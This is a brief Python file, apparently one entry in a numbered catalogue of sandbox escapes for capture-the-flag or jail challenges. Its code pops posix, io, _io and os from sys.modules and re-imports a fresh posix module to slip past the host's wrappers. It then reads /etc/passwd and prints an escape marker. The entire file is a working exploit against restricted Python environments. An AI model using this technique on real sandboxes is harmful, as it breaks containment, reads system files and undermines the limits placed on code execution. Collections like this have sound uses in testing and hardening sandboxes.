# escape: 085
# technique: drop the patched module from sys.modules and re-create it: a new module object without the host's wrappers
# family: import
# goal: read-file
# first-seen: tav's safelite challenge 2009; jailctf
import sys
for n in ('posix', 'io', '_io', 'os'): sys.modules.pop(n, None)
import posix
s = posix.read(posix.open('/etc/passwd', 0), 30)
if b'root:' in s: print('ESCAPED:fresh posix')
